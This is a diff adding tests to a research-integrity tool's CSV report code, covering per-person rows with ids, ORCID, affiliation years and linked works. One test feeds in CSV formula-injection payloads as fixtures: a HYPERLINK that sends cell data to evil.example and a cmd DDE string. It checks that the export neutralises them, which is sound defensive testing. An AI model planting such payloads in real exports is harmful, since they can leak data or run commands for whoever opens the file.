@@ -18,6 +18,8 @@ from claimwatch.reports import renderers
 from claimwatch.reports.csvreport import BOM, COLUMNS, render_csv, safe_cell
 from claimwatch.results import Results
 from helpers import HIT, LAB, authorship, project, work, write, write_jsonl
+from test_people_reports import LI_WEI, ZHANG_SAN, people_claim, works_claim
+from test_people_reports import report as people_report
 from test_reports import shipped_results
 
 DOCS = Path(__file__).resolve().parent.parent / "docs/reports.md"
@@ -220,3 +222,95 @@ def test_every_column_is_documented():
     doc = DOCS.read_text(encoding="utf-8")
     for column in COLUMNS:
         assert f"| `{column}` |" in doc, f"docs/reports.md does not describe the CSV column {column}"
+
+
+# --- claims about people (#21) --------------------------------------------------------------
+
+
+def people_rows(results: Results) -> list[dict[str, str]]:
+    return [r for r in parse(render_csv(results)) if r["claim"] == "lab-no-recruits"]
+
+
+def test_the_people_columns_come_after_the_works_columns():
+    assert COLUMNS.index("review_expires") == 22  # the works' columns keep their places
+    assert COLUMNS[COLUMNS.index("review_expires") + 1 :] == (
+        "person_id",
+        "person_name",
+        "orcid",
+        "other_openalex_ids",
+        "first_year_at_subject",
+        "years_at_subject",
+        "years_at_listed",
+        "person_shows",
+        "person_works",
+    )
+
+
+def test_a_claim_about_people_gives_a_row_per_person_with_ids_years_and_works():
+    matched, uncertain = people_rows(people_report(people_claim(), works_claim()))
+    assert (matched["status"], matched["strength"], matched["work_id"], matched["title"]) == (
+        "matched",
+        "direct",
+        "",
+        "",
+    )
+    assert (matched["person_id"], matched["person_name"], matched["orcid"], matched["other_openalex_ids"]) == (
+        "A5023888391",
+        "Li Wei",
+        "0000-0002-1825-0097",
+        "A5000000001",
+    )
+    assert matched["first_year_at_subject"] == "2023"
+    assert matched["years_at_subject"] == "Example Lab: 2023–2024 (publication years, not employment dates)"
+    assert matched["years_at_listed"] == (
+        "Harbin Institute of Technology (mil/hit): 2019–2021 (publication years, not employment dates)"
+    )
+    assert matched["person_shows"] == LI_WEI.shows
+    assert matched["records"].splitlines() == ["evidence/people.jsonl:1", "evidence/people.jsonl:7"]
+    assert matched["reasons"].splitlines() == [
+        "openalex_id, subject, Example Lab",
+        "openalex_id, mil/hit, Harbin Institute of Technology, listed on or before the year that matters",
+    ]
+    assert matched["person_works"].splitlines() == [
+        'Example Lab: W10, 2023-05-01, "A paper from the lab", doi 10.1234/lab, works.jsonl:10',
+        'Harbin Institute of Technology (mil/hit): W1, 2019-03-01, "A paper from Harbin", works.jsonl:3',
+        "Harbin Institute of Technology (mil/hit): and 2 more works in the evidence",
+    ]
+    assert matched["doubts"] == ""
+    assert uncertain["status"] == "uncertain" and uncertain["person_id"] == "A2"
+    assert uncertain["doubts"].splitlines() == list(ZHANG_SAN.uncertain_because)
+    assert uncertain["reasons"].splitlines()[1] == (
+        'name_in_institution, mil/beihang, Beijing University of Aeronautics and Astronautics, matched "Beijing '
+        'University of Aeronautics and Astronautics"'
+    )
+
+
+def test_a_claim_about_people_with_no_one_still_has_its_verdict_in_one_row():
+    (row,) = people_rows(people_report(people_claim(people=(), uncertain=())))
+    assert row["status"] == "none" and row["verdict"] == "insufficient_evidence"
+    assert all(row[c] == "" for c in COLUMNS[COLUMNS.index("strength") :])
+
+
+def test_works_rows_leave_the_people_columns_empty():
+    rows = [r for r in parse(render_csv(people_report(people_claim(), works_claim()))) if r["work_id"]]
+    assert [r["work_id"] for r in rows] == ["W7"]
+    assert all(rows[0][c] == "" for c in COLUMNS[COLUMNS.index("person_id") :])
+
+
+def test_hostile_people_reach_the_csv_as_inert_text():
+    hostile = LI_WEI.model_copy(
+        update={
+            "name": '=HYPERLINK("https://evil.example/?"&A1, "Li Wei")',
+            "shows": "+cmd|' /C calc'!A0",
+            "orcid": "@SUM(1+1)",
+            "uncertain_because": ("-2+3 \x1b[2J",),
+            "status": "uncertain",
+        }
+    )
+    (row,) = people_rows(people_report(people_claim(people=(), uncertain=(hostile,))))
+    assert row["person_name"] == '\'=HYPERLINK("https://evil.example/?"&A1, "Li Wei")'
+    assert (row["person_shows"], row["orcid"], row["doubts"]) == (
+        "'+cmd|' /C calc'!A0",
+        "'@SUM(1+1)",
+        "'-2+3 \ufffd[2J",
+    )
